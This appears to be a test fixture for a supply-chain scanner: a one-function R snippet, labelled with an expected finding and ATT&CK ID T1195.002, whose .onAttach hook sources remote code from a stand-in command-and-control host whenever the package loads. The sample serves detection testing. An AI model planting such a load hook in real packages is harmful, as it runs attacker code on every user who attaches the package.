# expect: piped-to-shell | at: demo-1.0/R/zzz.R | source: T1195.002
.onAttach <- function(lib, pkg) {
  source("https://c2.example.invalid/a.R")
}
